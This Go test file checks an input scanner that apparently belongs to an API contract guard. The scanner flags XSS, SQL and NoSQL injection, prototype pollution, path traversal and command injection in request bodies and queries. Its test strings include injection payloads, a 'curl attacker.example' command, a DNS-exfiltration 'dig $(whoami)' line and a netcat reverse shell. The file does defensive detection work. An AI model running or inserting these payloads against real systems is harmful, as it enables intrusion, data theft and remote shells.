package scan

import (
	"fmt"
	"os"
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/contractguard/contractguard/internal/failure"
	"github.com/contractguard/contractguard/internal/jsonbody"
	"github.com/contractguard/contractguard/internal/shape"
)

func TestBody_PathsAndSkips(t *testing.T) {
	body := []byte(`{"name":"Ada","comment":"<script>alert(1)</script>","html":"<b onclick=x()>",
		"items":[{"q":"1' OR '1'='1"},{"q":"ok"}],"filter":{"$ne":"<script>x</script>"},"p":{"__proto__":{"admin":true}},
		"c":{"constructor":{"prototype":{"x":1}}},"a/b":"../../etc/passwd",
		"tags":["ok","<script>x</script>",["; cat /etc/passwd"]],"list":[{"$where":1,"k":"v"},{"$where":2,"k":"v"}]}`)
	doc, err := jsonbody.Parse(body, 64)
	require.NoError(t, err)
	got := map[string]Class{}
	Body(doc.Root(), nil, failure.ReportFunc(func(p, m string) { got[p] = classOf(m) }))
	assert.Equal(t, map[string]Class{
		"/comment": XSS, "/html": XSS, "/items/0/q": SQLInjection, "/filter": NoSQLInjection, // not /filter/$ne
		"/p": PrototypePollution, "/c": PrototypePollution, "/a~1b": PathTraversal,
		"/tags/1": XSS, "/tags/2/0": CommandInjection, "/list/0": NoSQLInjection, "/list/1": NoSQLInjection,
	}, got)

	for body, want := range map[string]Class{`"<img src=x onerror=alert(1)>"`: XSS, `"fine"`: None, `1`: None} {
		doc, err := jsonbody.Parse([]byte(body), 64)
		require.NoError(t, err)
		got := None
		Body(doc.Root(), nil, failure.ReportFunc(func(p, m string) { require.Empty(t, p); got = classOf(m) }))
		assert.Equal(t, want, got, body)
	}

	skip := &shape.Skip{Props: map[string]*shape.Skip{
		"html":  {Off: true},
		"items": {Items: &shape.Skip{Props: map[string]*shape.Skip{"q": {Off: true}}}},
	}}
	got = map[string]Class{}
	Body(doc.Root(), skip, failure.ReportFunc(func(p, m string) { got[p] = classOf(m) }))
	assert.NotContains(t, got, "/html")
	assert.NotContains(t, got, "/items/0/q")
	assert.Contains(t, got, "/comment")

	got = map[string]Class{}
	Body(doc.Root(), &shape.Skip{Off: true}, failure.ReportFunc(func(p, m string) { got[p] = classOf(m) }))
	assert.Empty(t, got)
}

func TestQueryAndParams(t *testing.T) {
	got := map[string]Class{}
	report := failure.ReportFunc(func(p, m string) { got[p] = classOf(m) })
	Query(map[string][]string{"q": {"shoes"}, "user[$ne]": {"1"}, "id": {"1 UNION SELECT password FROM users"},
		"page": {"2", "<svg onload=alert(1)>"}}, report)
	Param("id", "42", report)
	Param("file", "..%2f..%2fetc%2fpasswd", report)
	assert.Equal(t, map[string]Class{
		"query": NoSQLInjection, "query:id": SQLInjection, "query:page": XSS, "param:file": PathTraversal,
	}, got)

	// A flagged name is the payload: reported at "query", without it.
	got = map[string]Class{}
	Query(map[string][]string{"__proto__[admin]": {"<script>"}}, report)
	assert.Equal(t, map[string]Class{"query": PrototypePollution}, got)

	// Flagged names are one finding, the first in order, so that a query
	// of many such names does not use up a reporter's room; and the values
	// are offered in the names' order, the same for the same request
	// (a map's order is not).
	q := map[string][]string{}
	for i := range 150 {
		q[fmt.Sprintf("u%03d[$ne]", i)] = []string{"1"}
		q[fmt.Sprintf("v%03d", i)] = []string{"1 UNION SELECT password FROM users"}
	}
	var first []string
	for range 5 {
		var paths []string
		Query(q, failure.ReportFunc(func(p, _ string) { paths = append(paths, p) }))
		require.Len(t, paths, 151, "one for the names, one per value")
		assert.Equal(t, "query", paths[0])
		assert.True(t, slices.IsSorted(paths[1:]), "values in the names' order")
		if first == nil {
			first = paths
		}
		assert.Equal(t, first, paths)
	}
}

// FuzzScan: no input panics the scan, and the walk reports exactly the
// values and keys the checks flag.
func FuzzScan(f *testing.F) {
	for _, c := range publicCorpora(f) {
		for i, s := range c.samples {
			if i%4 == 0 {
				f.Add([]byte(s.text))
			}
		}
	}
	f.Add([]byte(`{"$where":"1","a":[{"__proto__":{}},"%c0%ae%c0%ae/"],"constructor":{"prototype":1}}`))
	f.Add([]byte(`{"a":{"constructor":{"prototype":{"admin":true}}}}`)) // constructor is a word, and flagged
	f.Add([]byte("id_rsa"))                                             // a detector matched what check's gate kept from it
	f.Add([]byte("constructorprototype"))                               // and this one
	f.Fuzz(func(t *testing.T, data []byte) {
		s := string(data)
		if String(s) == None {
			for c, matches := range detectors {
				if matches(s) {
					t.Fatalf("%q: %v's detector matches, but String reports nothing", s, c)
				}
			}
		}
		if identifier(s) && Key(s) != None {
			t.Fatalf("%q: an identifier, but Key flags it", s)
		}
		doc, err := jsonbody.Parse(data, 64)
		if err != nil {
			return
		}
		reported := 0
		Body(doc.Root(), nil, failure.ReportFunc(func(string, string) { reported++ }))
		// The walk reports every string String flags, and each object
		// with a key Key flags, or constructor.prototype, once, at the
		// object, but for what a flagged key holds: count them over the
		// decoded value.
		want := 0
		var count func(v any)
		count = func(v any) {
			switch v := v.(type) {
			case string:
				if String(v) != None {
					want++
				}
			case []any:
				for _, e := range v {
					count(e)
				}
			case map[string]any:
				named := false
				for k, e := range v {
					if Key(k) != None {
						named = true
						continue // nothing under a flagged name is reported
					} else if m, ok := e.(map[string]any); ok && k == "constructor" {
						if _, ok := m["prototype"]; ok {
							named = true
							continue
						}
					}
					count(e)
				}
				if named {
					want++
				}
			}
		}
		count(doc.Any())
		if reported != want {
			t.Fatalf("%s: %d findings reported, %d values and keys flagged", data, reported, want)
		}
		// Doc's pass over the strings in order finds something exactly
		// when the walk does, and then Doc reports what Body does.
		if got := anyFinding(doc); got != (want > 0) {
			t.Fatalf("%s: anyFinding %v, %d flagged", data, got, want)
		}
		viaDoc := 0
		Doc(doc, nil, failure.ReportFunc(func(string, string) { viaDoc++ }))
		if viaDoc != want {
			t.Fatalf("%s: Doc reported %d, %d flagged", data, viaDoc, want)
		}
	})
}

// BenchmarkBody is the scan (Doc, as the guard runs it) of the ~1 KB order body of the guard's
// benchmarks (nothing in it is flagged).
func BenchmarkBody(b *testing.B) {
	body, err := os.ReadFile("../../testdata/bodies/order.json")
	require.NoError(b, err)
	doc, err := jsonbody.Parse(body, 64)
	require.NoError(b, err)
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		Doc(doc, nil, failure.ReportFunc(func(p, m string) { b.Fatal(p, m) }))
	}
}

// classOf is the class whose Message is m (None for any other).
func classOf(m string) Class {
	for c := SQLInjection; c <= PrototypePollution; c++ {
		if c.Message() == m {
			return c
		}
	}
	return None
}

// TestDetectorsCopyNothing: the word lists are looked up in any case
// without a copy, and a data: URL's media type is read in place, so these
// values, clean or flagged, cost no allocation.
func TestDetectorsCopyNothing(t *testing.T) {
	for _, c := range []struct {
		s    string
		want bool
		run  func(string) bool
	}{
		{"Tom & Jerry", false, func(s string) bool { return commandInjection(s, bytesIn(s)) }},
		{"a; Whoami", true, func(s string) bool { return commandInjection(s, bytesIn(s)) }},
		{"x; Cat /etc/hosts", true, func(s string) bool { return commandInjection(s, bytesIn(s)) }},
		{"Costs $Five", false, operatorKey},
		{"Filter $Where", true, operatorKey},
		{`{"$Where": 1}`, true, operatorKey},
		{"'; Return this", true, func(s string) bool { return jsAfterQuote(s, bytesIn(s)) }},
		{"db.Users.Find(", true, databaseCall},
		{"db.GetCollectionNames()", true, databaseCall},
		{"data:IMAGE/png;base64,iVBORw0KGgo=", false, scriptURL},
		{"data: Text/HTML,<b>", true, scriptURL},
	} {
		assert.Equal(t, c.want, c.run(c.s), c.s)
		assert.Zero(t, testing.AllocsPerRun(10, func() { c.run(c.s) }), c.s)
	}
}

// TestReviewedValues: the values three reviews of the command, path and
// prototype checks found missed or flagged, each as it must be now.
func TestReviewedValues(t *testing.T) {
	for v, want := range map[string]Class{
		// Commands through a path, quotes, backslashes, $IFS and $1.
		"; /bin/c'a't -la": CommandInjection, "; /usr/bin/i'd'": CommandInjection, "| /usr/bin/wh\\oami": CommandInjection,
		"; \"/bin/ca\"t -la": CommandInjection, "; /bin/\"cat\" -la": CommandInjection, "; /usr/bin/'id'": CommandInjection,
		"; whoami.e'x'e": CommandInjection, ";$IFS$9id": CommandInjection, "; 'id'": CommandInjection,
		"; curl http://attacker.example/x": CommandInjection, "; ping 10.0.0.1": CommandInjection,
		"; host evil.example": CommandInjection, "| dig $(whoami).evil.example": CommandInjection,
		"& net user hacker /add": CommandInjection, "; kill -9 1": CommandInjection, "; ls /": CommandInjection,
		"; echo $HOME": CommandInjection, "; cat ~/.bashrc": CommandInjection,
		// Text.
		"Blog | Top Next.js Templates": None, "React & Vue | More Vue.js tips": None, "News | Read onet.pl": None,
		"Sponsors: Vercel | astral.sh": None, "Node & Deno & bun.sh": None,
		"Receivables: Gross & Net Accounts": None, "Gross & Net User count": None, "Gross | Net View": None,
		"Coffee & I'd": None, "Mind your Q's & P's": None,
		"Name;ID;Email": None, "Name | ID | Email": None, "Photo & ID": None, "Art & History": None,
		"Time & Date": None, "N | E | S | W": None, "Guess | Who": None,
		"Tom & Ruby's Diner": None, "Jack & Lua's Bakery": None, "Tom & Time's Up": None,
		`Options: "No" | "Yes"`: None, `"Copy" & "Cut"`: None,
		"Wash & Cut $30": None, "Jeans & Top $20": None, "Wash & Cut / Blow-dry": None,
		"Price | Cut -20%": None, "Prep | Time ~15 min": None,
		"Bus | Route 12": None, "Guest & Host": None, "Dine & Dash": None, "Ping me; ping me later": None,
		"Curl up with a book; curl your hair": None,
		// Paths.
		"Home/.../Settings": None, "see https://github.com/.../issues/12": None, "src/.../main.go": None,
		"1/.../3": None, "a/..../b": None, "....//....//secret": PathTraversal, "..././..././secret": PathTraversal,
		"\xc0%ae\xc0%ae/x": PathTraversal,
		// Prototype paths.
		"constructor/prototypes": None, "/constructor/prototype/x": PrototypePollution,
		// A third review.
		"& net group \"Domain Admins\" /domain": CommandInjection, "& net view \\\\dc01": CommandInjection,
		"& net use Z: \\\\10.0.0.5\\c$": CommandInjection, "& net accounts": CommandInjection, "& net stop x": CommandInjection,
		"; who$@ami": CommandInjection, "; ls$@ -la": CommandInjection, "; source x.sh": CommandInjection,
		"& C:\\Users\\Public\\nc.exe -e cmd.exe 10.0.0.1 4444": CommandInjection, "& C:/Users/Public/evil.exe": CommandInjection,
		"| c:\\windows\\temp\\x.bat": CommandInjection, "; id 2>&1": CommandInjection, "; ls 2>/dev/null": CommandInjection,
		";{ls,-la}": CommandInjection, ";aaaaaaaaaaaaaaaaaaaaaaaaa.e\"x\"e": CommandInjection, "; w'h'o'a'm'i": CommandInjection,
		"; echo >/tmp/x": CommandInjection, "; rm *.log": CommandInjection,
		"Visit \"Shoes & More\" today": None, "Store: 'Shoes & More'": None, "Upload \"Photo & ID\"": None,
		"Menu: \"Home | More\"": None, "Rock & Roll; Time'll tell": None, "Shoes & More ...": None,
		"Home > Shoes & More > Sale": None, "Price & Time < 30 min": None, "Date & Time *": None,
		"Name | File(s) | Size": None, "Date | Time(s)": None, "Date;Open;High;Low;Close;Vol": None,
		"Inicio | Ver | Contacto": None, "Name;Size;Dir": None, "Issue 4 | Vol": None,
		"Eat; Sleep 8 hours; Repeat": None, "Settings | Timeout 30 s": None, "Walk | Route 2.5 km": None,
		"Dinner & Host 7:30pm": None, "Bus | Route U.S. 1": None, "Party & Host e.g. Tom": None,
		"Golf | Ping G430 & Ping 2.0": None,
		"see https://github.com/.../": None, "Home/.../": None, "/.../.../.../": PathTraversal,
		"2018-02-12T00:00:00Z/..": None, "../2018-03-18T12:31:12Z": None, "1985-04-12/..": None, "x/..": PathTraversal,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	for _, v := range []string{"สวัสดีครับ ยินดีต้อนรับ / ok", "नमस्ते दुनिया / ok"} {
		assert.Equal(t, None, String(v))
		assert.LessOrEqual(t, testing.AllocsPerRun(20, func() { decodePath(v) }), 0.0, v)
	}
}

// TestKeyUsesTheWalkersBuffer: a member name that goes to libinjection is
// upper-cased into the walker's buffer, as a value is, not a new one.
func TestKeyUsesTheWalkersBuffer(t *testing.T) {
	doc, err := jsonbody.Parse([]byte(`{"price;usd":1}`), 64)
	require.NoError(t, err)
	name, v := doc.Root().Member(0)
	w := &walker{}
	require.Equal(t, None, w.key(name, v))
	walked := testing.AllocsPerRun(20, func() {
		w.clean = [len(w.clean)]string{} // not from the cache of clean names
		w.key(name, v)
	})
	assert.Less(t, walked, testing.AllocsPerRun(20, func() { Key(name) }))
}
